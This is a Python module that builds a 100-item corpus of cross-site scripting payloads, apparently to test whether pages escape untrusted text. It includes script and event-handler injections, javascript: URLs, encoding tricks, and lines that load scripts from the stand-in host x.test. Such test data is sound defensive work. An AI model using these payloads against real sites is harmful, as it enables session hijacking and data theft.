"""A hundred texts that would run as code wherever a page forgets to treat them as text."""

from __future__ import annotations

from html.entities import name2codepoint

_RUN = ("alert(1)", "window.hurt=1", "parent.hurt=1", "document.title='hurt'")
_ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>",
    "<script src=//x.test/a.js></script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '"><img src=x onerror={}>', "'><img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>",
    "<a href='javascript:{}'>x</a>", "<math><a xlink:href='javascript:{}'>x</a></math>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<input autofocus onfocus={}>", "<style>@import '//x.test/{}';</style>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='//x.test/{}'>", "<base href='//x.test/'>{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "`${{{}}}`", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip
_ODD = (
    "\u2028<script>alert(1)</script>", "\u2029alert(1)//", "\0<script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<scr\tipt>alert(1)</scr\tipt>",
    "<!--", "-->", "<![CDATA[",
    '"', "'", "`", "&", "<", ">", "</", "/>", "\\", '\\"</script>', "%3Cscript%3Ealert(1)%3C/script%3E",
    '{"a": "</script>"}', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "on=error", "__proto__",
    "constructor", "toString", "hasOwnProperty", "<\u200bscript>alert(1)</script>", "\u202e<script>alert(1)</script>",
    f"&{next(iter(sorted(name2codepoint)))};<b>",
)  # fmt: skip

CORPUS = [text.format(_RUN[at % len(_RUN)]) for at, text in enumerate(_ELEMENTS)]
CORPUS += [text.format(_RUN[(at + 1) % len(_RUN)]) for at, text in enumerate(_ELEMENTS[:30])]
CORPUS += list(_ODD)
assert len(CORPUS) == 100, len(CORPUS)
